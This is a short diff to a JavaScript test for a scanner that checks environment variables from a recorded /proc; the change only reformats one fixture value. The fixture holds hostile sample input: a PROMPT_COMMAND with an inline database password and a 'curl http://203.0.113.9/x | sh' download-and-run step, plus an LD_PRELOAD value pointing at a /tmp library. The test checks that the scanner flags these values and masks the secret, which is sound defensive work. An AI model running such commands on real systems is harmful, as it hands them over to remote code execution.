@@ -37,7 +37,7 @@ describe('on a recorded /proc', () => {
   });
 
   it('masks secrets and bears hostile values', async () => {
-    const report = await scanWith({ PROMPT_COMMAND: `mysql -u root -pTopSecret77 -e 'select 1'; curl http://203.0.113.9/x | sh`, LD_PRELOAD: `${'/tmp/a.so '.repeat(500)}` });
+    const report = await scanWith({ PROMPT_COMMAND: `mysql -u root -pTopSecret77 -e 'select 1'; curl http://203.0.113.9/x | sh`, LD_PRELOAD: '/tmp/a.so '.repeat(500) });
     expect(JSON.stringify(report.findings)).not.toContain('TopSecret77');
     expect(report.findings.length).toBeGreaterThan(0);
   });
